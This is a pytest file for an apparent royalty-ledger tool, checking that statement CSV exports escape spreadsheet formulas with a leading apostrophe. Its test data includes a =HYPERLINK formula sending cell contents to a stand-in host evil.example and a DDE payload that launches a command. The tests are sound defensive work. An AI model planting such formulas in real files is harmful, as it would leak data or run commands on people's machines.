"""Statement CSVs cannot carry a spreadsheet formula: a party named `=HYPERLINK(...)` is
written as text (a leading apostrophe), while amounts stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from clearreel.config import Settings
from clearreel.db import open_session
from clearreel.ledger import record_attributed_revenue
from clearreel.util.csvsafe import neutralise

from .conftest import ORG

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"open statement")'


@pytest.mark.parametrize("cell, written", [
    (EVIL, "'" + EVIL),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("-2+3", "'-2+3"),
    ("  =1+1", "'  =1+1"),
    ("\t=1+1", "'\t=1+1"),
    ("＝1+1", "'＝1+1"),
    ("-12.50", "-12.50"),
    ("+3", "+3"),
    ("Ava Stone", "Ava Stone"),
    ("", ""),
    (12, 12),
])
def test_neutralise(cell: object, written: object) -> None:
    assert neutralise(cell) == written


def test_statement_csv_neutralises_a_formula_party_name(ledger_ws: Settings, cli,
                                                          tmp_path: Path) -> None:
    from clearreel.rights.models import Party

    with open_session(ledger_ws, ORG) as s:
        s.query(Party).filter(Party.id == "p-ava").one().name = EVIL
    record_attributed_revenue(ledger_ws, "output:o-1", [{"work": "w-a", "share": "1"}],
                              "100.00", "USD", on=dt.date(2026, 3, 3), org=ORG)
    out = tmp_path / "s.csv"
    code, _, err = cli("ledger", "statements", "--period", "2026-03", "--csv", str(out))
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    names = {r["party"]: r["name"] for r in rows}
    assert names["p-ava"] == "'" + EVIL
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
    assert all(r["amount"].lstrip("-").replace(".", "").isdigit() for r in rows)
